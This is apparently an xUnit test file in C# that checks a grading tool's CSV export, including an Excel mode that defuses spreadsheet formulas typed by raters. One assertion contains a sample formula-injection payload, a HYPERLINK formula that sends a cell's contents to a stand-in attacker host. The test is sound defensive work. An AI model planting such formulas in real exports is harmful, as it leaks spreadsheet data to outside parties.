using GradeBench.Storage.Export;
using GradeBench.Storage.Studies;
using Sylvan.Data.Csv;

namespace GradeBench.Storage.Tests.Export;

/// <summary>Formulas a rater typed (<see cref="FormulaStudy"/>) through the real export path: the plain CSV keeps them byte
/// for byte, the Excel flavour puts an apostrophe before exactly those a spreadsheet would run (docs/exports.md).</summary>
public sealed class FormulaExportTests : IAsyncDisposable
{
    const string Stamp = "2026-11-25T09:00:00.0000000Z"; // the test clock's: every import timestamp
    readonly string _folder = Directory.CreateTempSubdirectory("gradebench-formulas-").FullName;
    TestDatabase? _db;

    async Task<(Database Database, long StudyId)> ImportAsync()
    {
        _db = await TestDatabase.CreateAsync();
        var result = await new StudyImporter(_db.Database, _db.Clock).ImportAsync(FormulaStudy.Write(Path.Combine(_folder, "bundle")));
        Assert.True(result.Succeeded, string.Join("\n", result.Errors));
        return (_db.Database, result.StudyId!.Value);
    }

    static async Task<string> ExportAsync(Func<TextWriter, Task<long>> write)
    {
        var output = new StringWriter();
        await write(output);
        return output.ToString();
    }

    /// <summary>ratings.csv as RFC 4180 says to write it, each comment and note being <paramref name="cell"/> of what was typed.</summary>
    static string ExpectedRatings(Func<string, string> cell)
    {
        static string Field(string text) => text.IndexOfAny([',', '"', '\r', '\n']) < 0 ? text : "\"" + text.Replace("\"", "\"\"") + "\"";
        var csv = "study,case_id,response_id,model,rater,criterion,value,comment,first_submitted,last_changed\r\n";
        for (var i = 0; i < FormulaStudy.Texts.Count; i++)
        {
            var typed = Field(cell(FormulaStudy.Texts[i].Typed));
            csv += $"formulas,c1,c1.r{i:D2},m1,formulas/ann,dose_error,{FormulaStudy.Numbers[i % 3]},{typed},{Stamp},{Stamp}\r\n";
            csv += $"formulas,c1,c1.r{i:D2},m1,formulas/ann,note,{typed},,{Stamp},{Stamp}\r\n";
            if (i == 0) csv += $"formulas,c1,c1.r00,m1,formulas/ann,{cell("-A1")},true,,{Stamp},{Stamp}\r\n";
        }
        return csv;
    }

    static List<string[]> Cells(string csv)
    {
        using var reader = CsvDataReader.Create(new StringReader(csv), new CsvDataReaderOptions { HasHeaders = false });
        var rows = new List<string[]>();
        while (reader.Read()) rows.Add(Enumerable.Range(0, reader.RowFieldCount).Select(reader.GetString).ToArray());
        return rows;
    }

    [Fact]
    public async Task ThePlainRatingsCsvHoldsWhatWasTypedByteForByte()
    {
        var (database, studyId) = await ImportAsync();

        var csv = await ExportAsync(output => new TextExport(database).WriteRatingsAsync(studyId, output));

        Assert.Equal(ExpectedRatings(typed => typed), csv);
    }

    [Fact]
    public async Task ThePlainWideAndHistoryFilesHoldWhatWasTyped()
    {
        var (database, studyId) = await ImportAsync();
        var export = new TextExport(database);

        var wide = Cells(await ExportAsync(output => export.WriteRatingsWideAsync(studyId, output)));
        var history = Cells(await ExportAsync(output => export.WriteHistoryAsync(studyId, output)));

        Assert.Equal(["dose_error", "note", "-A1"], wide[0][5..8]);
        Assert.Equal(FormulaStudy.Texts.Select(t => t.Typed), wide.Skip(1).Select(r => r[6]));
        Assert.Equal(FormulaStudy.Texts.Select((_, i) => FormulaStudy.Numbers[i % 3]), wide.Skip(1).Select(r => r[5]));
        Assert.Equal(FormulaStudy.Texts.Select(t => t.Typed), history.Skip(1).Where(r => r[3] == "dose_error").Select(r => r[5]));
        Assert.Equal(FormulaStudy.Texts.Select(t => t.Typed), history.Skip(1).Where(r => r[3] == "note").Select(r => r[4]));
    }

    [Fact]
    public async Task TheExcelRatingsCsvPutsAnApostropheBeforeExactlyTheFormulas()
    {
        var (database, studyId) = await ImportAsync();

        var csv = await ExportAsync(output => new TextExport(database, forExcel: true).WriteRatingsAsync(studyId, output));

        Assert.Equal(ExpectedRatings(FormulaStudy.ForExcel), csv);
        Assert.Contains("ann,dose_error,-0.5,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",", csv);
        Assert.Contains("ann,note,'-2+3,,", csv);
        Assert.Contains("ann,dose_error,-1,-0.5,", csv);
    }

    [Fact]
    public async Task TheExcelWideAndHistoryFilesDefuseTheFormulasAndACriterionIdThatReadsAsOne()
    {
        var (database, studyId) = await ImportAsync();
        var plain = new TextExport(database);
        var excel = new TextExport(database, forExcel: true);

        // Each of the 8 formulas among the 14 texts is a note, and in history.csv a comment too; and the id -A1 once.
        foreach (var (write, defused) in new (Func<TextExport, TextWriter, Task<long>>, int)[]
                 {
                     ((export, output) => export.WriteRatingsWideAsync(studyId, output), 8 + 1),
                     ((export, output) => export.WriteHistoryAsync(studyId, output), 2 * 8 + 1),
                 })
        {
            var expected = Cells(await ExportAsync(output => write(plain, output))).Select(r => r.Select(FormulaStudy.ForExcel));
            var actual = Cells(await ExportAsync(output => write(excel, output)));

            Assert.Equal(expected.Select(r => string.Join(" | ", r)), actual.Select(r => string.Join(" | ", r)));
            Assert.Equal(defused, actual.SelectMany(r => r).Count(c => c.StartsWith('\'')));
        }
    }

    [Fact]
    public async Task TheExcelAgreementCsvOfTheDemoIsThePlainOneNegativeNumbersIncluded()
    {
        _db = await TestDatabase.CreateAsync();
        var studyId = (await new StudyImporter(_db.Database, _db.Clock).ImportAsync(TestPaths.DemoBundle)).StudyId!.Value;

        var plain = await ExportAsync(output => new TextExport(_db.Database).WriteAgreementAsync(studyId, output));
        var excel = await ExportAsync(output => new TextExport(_db.Database, forExcel: true).WriteAgreementAsync(studyId, output));

        Assert.Equal(plain, excel);
        Assert.Contains(Cells(plain).SelectMany(r => r), c => c.StartsWith('-') && double.TryParse(c, System.Globalization.CultureInfo.InvariantCulture, out _));
    }

    public async ValueTask DisposeAsync()
    {
        if (_db is not null) await _db.DisposeAsync();
        Directory.Delete(_folder, recursive: true);
    }
}
